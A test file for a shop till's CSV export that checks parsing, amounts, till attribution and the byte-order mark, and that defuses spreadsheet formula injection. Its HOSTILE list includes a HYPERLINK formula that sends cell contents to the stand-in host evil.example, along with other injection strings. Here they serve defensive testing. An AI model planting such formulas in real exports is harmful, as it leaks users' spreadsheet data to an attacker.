import { describe, expect, it } from 'vitest';
import { formatIsoInZone } from '#shared/provider-time';
import { referencePrefix } from '#shared/till-id';
import { createReferenceGenerator } from '#main/provider/references';
import { createTestDb } from '#support/database';
import { CSV_BOM, CSV_COLUMNS, buildCsvExport, csvFilename, csvText } from './csv';
import { isoInZoneFn } from './report-range';
import { createSeededRandom } from '#main/sandbox/seeded-random';
import { insertInflowRow, insertSaleWithHistory, nextSessionId } from '#support/shop-history';

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i += 1;
        const next = text[i];
        if (next !== ',' && next !== '\r') throw new Error(`junk after a quoted field at ${i}`);
      } else {
        field += c;
        i += 1;
      }
    } else if (c === '"') {
      if (field !== '') throw new Error(`a quote inside an unquoted field at ${i}`);
      quoted = true;
      i += 1;
    } else if (c === ',') {
      record.push(field);
      field = '';
      i += 1;
    } else if (c === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`CR without LF at ${i}`);
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else if (c === '\n') {
      throw new Error(`bare LF at ${i}`);
    } else {
      field += c;
      i += 1;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('last record does not end in CRLF');
  return records;
}

/** An export parsed back: it must start with the byte-order mark, which is no part of a cell. */
function parseExport(text: string): string[][] {
  expect(text.startsWith(CSV_BOM), 'the export starts with the UTF-8 byte-order mark').toBe(true);
  return parseCsv(text.slice(CSV_BOM.length));
}

const LAGOS = 'Africa/Lagos';
const DAY_START = Date.UTC(2026, 10, 21, 23); // 2026-11-22 00:00 Lagos
/** The resolution columns of a row no exception of the report concerns. */
const NO_EXCEPTION = ['', '', '', '', '', ''];
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+2348012345678',
  '-1+1',
  '@SUM(A1:A2)',
  '\tcmd',
  '\r=1+1',
  'Mama, Put',
  'say "hi"',
  'two\nlines',
  'Ọlá ₦',
];

describe('CSV export', () => {
  it('writes one row per inflow that parses back to the same values, formulas defused', () => {
    const { db } = createTestDb();
    const expected: string[][] = [];
    db.transaction(() => {
      HOSTILE.forEach((text, n) => {
        const sessionId = nextSessionId();
        const at = DAY_START + (n + 1) * 3_600_000 + 5 * 60_000;
        const sale = insertSaleWithHistory(
          db,
          {
            amountKobo: 150050 + n,
            tillId: text,
            cashier: text,
            reference: `TT-CSV-${n}`,
            createdAt: at - 60_000,
          },
          [
            { at: at - 50_000, state: 'awaiting_payment' },
            { at, state: 'paid', paidSessionId: sessionId },
          ],
        );
        insertInflowRow(
          db,
          {
            sessionId,
            reference: text,
            amountKobo: 150050 + n,
            status: 'success',
            occurredAt: at,
            saleId: sale.id,
            listed: false,
          },
          0,
        );
        const guarded = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
        expected.push([
          sessionId,
          formatIsoInZone(at, LAGOS),
          'success',
          `1500.${50 + n}`,
          guarded,
          String(sale.id),
          // Its own sale (the hostile reference is in no format of this app): this till.
          'TILL1',
          'This till',
          guarded,
          'callback',
          ...NO_EXCEPTION,
        ]);
      });
    })();
    // Outside the day: not exported.
    insertInflowRow(
      db,
      {
        sessionId: nextSessionId(),
        reference: 'late',
        amountKobo: 1,
        status: 'success',
        occurredAt: DAY_START + 86_400_000,
        saleId: null,
        listed: true,
      },
      0,
    );
    const pending = nextSessionId();
    insertInflowRow(
      db,
      {
        sessionId: pending,
        reference: 'static-1',
        amountKobo: 1,
        status: 'pending',
        occurredAt: DAY_START + 86_399_000,
        saleId: null,
        listed: true,
      },
      0,
    );
    expected.push([
      pending,
      '2026-11-22T23:59:59+01:00',
      'pending',
      '0.01',
      'static-1',
      '',
      '',
      'Not made by any till of this shop',
      '',
      'listing',
      ...NO_EXCEPTION,
    ]);

    const out = buildCsvExport(db, {
      fromDay: '2026-11-22',
      toDay: '2026-11-22',
      timeZone: LAGOS,
      cutoffHour: 0,
    });
    expect(out.filename).toBe('transfer-till-2026-11-22.csv');
    expect(out.rows).toBe(HOSTILE.length + 1);
    const [header, ...records] = parseExport(out.csv);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(records).toEqual(expected);
    expect(records[0]?.[1]).toBe('2026-11-22T01:05:00+01:00');
    // No cell a spreadsheet would evaluate.
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('writes amounts exactly from kobo and a header for an empty day', () => {
    const { db } = createTestDb();
    const random = createSeededRandom(3).next;
    const amounts = [
      1,
      10,
      100,
      99999,
      123456,
      100000000000,
      ...Array.from({ length: 200 }, () => Math.floor(random() * 1e12)),
    ];
    db.transaction(() => {
      amounts.forEach((amountKobo, n) =>
        insertInflowRow(
          db,
          {
            sessionId: nextSessionId(),
            reference: `R${n}`,
            amountKobo,
            status: 'success',
            occurredAt: DAY_START + n * 1000,
            saleId: null,
            listed: true,
          },
          0,
        ),
      );
    })();
    const out = buildCsvExport(db, {
      fromDay: '2026-11-22',
      toDay: '2026-11-22',
      timeZone: LAGOS,
      cutoffHour: 0,
    });
    const records = parseExport(out.csv).slice(1);
    const byReference = new Map(records.map((r) => [r[4], r[3]]));
    amounts.forEach((kobo, n) => {
      const text = byReference.get(`R${n}`) ?? '';
      expect(text).toMatch(/^\d+\.\d{2}$/);
      expect(BigInt(text.replace('.', ''))).toBe(BigInt(kobo));
    });
    expect(byReference.get('R0')).toBe('0.01');
    expect(byReference.get('R5')).toBe('1000000000.00');

    const empty = buildCsvExport(db, {
      fromDay: '2026-12-01',
      toDay: '2026-12-03',
      timeZone: LAGOS,
      cutoffHour: 4,
    });
    expect(empty).toEqual({
      filename: 'transfer-till-2026-12-01-to-2026-12-03.csv',
      csv: `${CSV_BOM}${CSV_COLUMNS.join(',')}\r\n`,
      rows: 0,
    });
  });

  it('guards and quotes single cells, and formats dates like formatIsoInZone', () => {
    expect(csvText('=1+1')).toBe("'=1+1");
    expect(csvText('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvText('plain')).toBe('plain');
    expect(csvText(null)).toBe('');
    expect(csvFilename('2026-11-22', '2026-11-22')).toBe('transfer-till-2026-11-22.csv');
    for (const zone of [LAGOS, 'UTC', 'Europe/London', 'Asia/Kathmandu']) {
      const from = Date.UTC(2026, 2, 28);
      const iso = isoInZoneFn(from, from + 2 * 86_400_000, zone);
      for (const t of [
        from,
        from + 3_600_123,
        from + 86_400_000 + 1000,
        from + 2 * 86_400_000 - 1,
      ]) {
        expect(iso(t), zone).toBe(formatIsoInZone(t, zone));
      }
    }
  });

  it("names the till of the shop that made every row, the same in every till's export", () => {
    const { db } = createTestDb();
    const clock = () => DAY_START + 9 * 3_600_000;
    const a = createReferenceGenerator({ prefix: referencePrefix('till-a7k2'), clock });
    const b = createReferenceGenerator({ prefix: referencePrefix('till-b9q3'), clock });
    const own = a.next();
    const ownCounter = a.next('counter');
    const legacyCounter = 'CTR-FLEX-1';
    for (const reference of [ownCounter, legacyCounter]) {
      db.prepare(
        `INSERT INTO virtual_accounts (type, purpose, reference, status, created_at, updated_at)
         VALUES ('static-flex', 'counter', ?, 'active', 0, 0)`,
      ).run(reference);
    }
    const sessionAt = DAY_START + 10 * 3_600_000;
    const sale = insertSaleWithHistory(
      db,
      {
        amountKobo: 1000,
        tillId: 'till-a7k2',
        cashier: 'Ada',
        reference: own,
        createdAt: sessionAt - 60_000,
      },
      [{ at: sessionAt - 50_000, state: 'awaiting_payment' }],
    );
    const rows: [string, number | null, string, string][] = [
      [own, sale.id, 'TILLA7K2', 'This till'],
      [ownCounter, null, 'TILLA7K2', 'Standing account'],
      [legacyCounter, null, 'TILLA7K2', 'Standing account'],
      [b.next(), null, 'TILLB9Q3', 'Other till of this shop'],
      [b.next('counter'), null, 'TILLB9Q3', 'Standing account'],
      ['INV-77', null, '', 'Not made by any till of this shop'],
    ];
    rows.forEach(([reference, saleId], n) =>
      insertInflowRow(
        db,
        {
          sessionId: nextSessionId(),
          reference,
          amountKobo: 1000,
          status: 'success',
          occurredAt: sessionAt + n * 1000,
          saleId,
          listed: true,
        },
        0,
      ),
    );
    const out = buildCsvExport(db, {
      fromDay: '2026-11-22',
      toDay: '2026-11-22',
      timeZone: LAGOS,
      cutoffHour: 0,
      tillId: 'till-a7k2',
    });
    const [header = [], ...records] = parseExport(out.csv);
    const column = (name: string) => header.indexOf(name);
    const inflowRows = records.filter((record) => record[column('source')] !== 'report');
    expect(
      inflowRows.map((record) => [
        record[column('external_reference')],
        record[column('till')],
        record[column('till_attribution')],
      ]),
    ).toEqual(rows.map(([reference, , till, line]) => [reference, till, line]));
    expect(column('till_attribution')).toBe(column('till') + 1);
  });
  it('starts with the UTF-8 byte-order mark once, so Excel reads Ọlá and ₦ as written', () => {
    const { db } = createTestDb();
    const sessionId = nextSessionId();
    const at = DAY_START + 9 * 3_600_000;
    const sale = insertSaleWithHistory(
      db,
      {
        amountKobo: 150_000,
        tillId: 'till-1',
        cashier: 'Ọlá ₦',
        reference: 'TT-BOM',
        createdAt: at,
      },
      [{ at: at + 1000, state: 'paid', paidSessionId: sessionId }],
    );
    insertInflowRow(
      db,
      {
        sessionId,
        reference: 'TT-BOM',
        amountKobo: 150_000,
        status: 'success',
        occurredAt: at + 1000,
        saleId: sale.id,
        listed: false,
      },
      0,
    );
    const out = buildCsvExport(db, {
      fromDay: '2026-11-22',
      toDay: '2026-11-22',
      timeZone: LAGOS,
      cutoffHour: 0,
    });
    // The bytes a downloaded file holds (the renderer saves the text as UTF-8).
    const bytes = new TextEncoder().encode(out.csv);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(out.csv.indexOf(CSV_BOM, 1)).toBe(-1);
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)).toBe(out.csv);
    // A reader that strips the mark (as Excel and TextDecoder do) gets the header first.
    const text = new TextDecoder('utf-8').decode(bytes);
    expect(text.startsWith(`${CSV_COLUMNS[0]},`)).toBe(true);
    const [header = [], row = []] = parseCsv(text);
    expect(row[header.indexOf('cashier')]).toBe('Ọlá ₦');
  });
});
